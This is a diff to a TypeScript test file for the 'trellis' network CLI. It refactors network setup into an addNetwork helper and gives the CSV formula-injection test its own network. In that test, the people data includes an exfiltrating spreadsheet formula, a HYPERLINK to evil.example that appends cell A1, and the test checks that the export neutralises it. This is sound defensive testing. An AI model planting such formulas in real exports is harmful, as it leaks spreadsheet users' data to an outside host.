@@ -27,9 +27,23 @@ describe('trellis', () => {
   beforeAll(async () => {
     folder = await mkdtemp(join(tmpdir(), 'trellis-cli-'));
     trellis = makeRunner(join(folder, 'data'));
-    // Migrating a new data folder is the slow part of a first command: done here, under the hook's longer timeout.
-    await (await openDatabase({ dataDir: join(folder, 'data') })).close();
+    // Migrating a new data folder is the slow part of a first command: done here, under the hook's
+    // longer timeout. The export tests' network is made here too, so the data is never empty (the
+    // demo refuses to overwrite it) whichever test runs first.
+    await addNetwork('red-export');
   });
+
+  /** Adds a network straight to the command's database (the CLI has no command for it). */
+  async function addNetwork(slug: string) {
+    const connection = await openDatabase({ dataDir: join(folder, 'data') });
+    try {
+      await connection.db.execute(
+        sql`insert into networks (slug, name, kind, level, approach) values (${slug}, ${slug}, 'pln', 2, 'enabled')`,
+      );
+    } finally {
+      await connection.close();
+    }
+  }
   afterAll(async () => {
     await rm(folder, { recursive: true, force: true });
   });
@@ -44,11 +58,6 @@ describe('trellis', () => {
   });
 
   it('exports a network’s ties as GraphML, GEXF or CSV, with names, and explains bad requests', async () => {
-    const connection = await openDatabase({ dataDir: join(folder, 'data') });
-    await connection.db.execute(
-      sql`insert into networks (slug, name, kind, level, approach) values ('red-export', 'Red Export', 'pln', 2, 'enabled')`,
-    );
-    await connection.close();
     const people = join(folder, 'people.csv');
     await writeFile(people, 'display_name,email\nRosa Prieto,rosa@example.org\nJuan Gil,juan@example.org\n');
     const ties = join(folder, 'ties.csv');
@@ -209,11 +218,12 @@ describe('trellis', () => {
     const people = join(folder, 'formula-people.csv');
     await writeFile(people, 'display_name,email\n"=HYPERLINK(""http://evil.example/?""&A1,""Ver"")",formula1@example.org\n@SUM(1),formula2@example.org\n');
     const ties = join(folder, 'formula-ties.csv');
-    await writeFile(ties, 'network,from_email,to_email,relation\nred-export,formula1@example.org,formula2@example.org,advice\n');
+    await addNetwork('red-formulas');
+    await writeFile(ties, 'network,from_email,to_email,relation\nred-formulas,formula1@example.org,formula2@example.org,advice\n');
     expect((await trellis('import', 'people', people)).code).toBe(0);
     expect((await trellis('import', 'ties', ties)).code).toBe(0);
     const out = join(folder, 'formula-nodes.csv');
-    expect((await trellis('export', 'network', 'red-export', '--format', 'csv', '--table', 'nodes', '--out', out)).code).toBe(0);
+    expect((await trellis('export', 'network', 'red-formulas', '--format', 'csv', '--table', 'nodes', '--out', out)).code).toBe(0);
     const text = await readFile(out, 'utf8');
     expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""Ver"")"`);
     expect(text).toContain(`"'@SUM(1)"`);
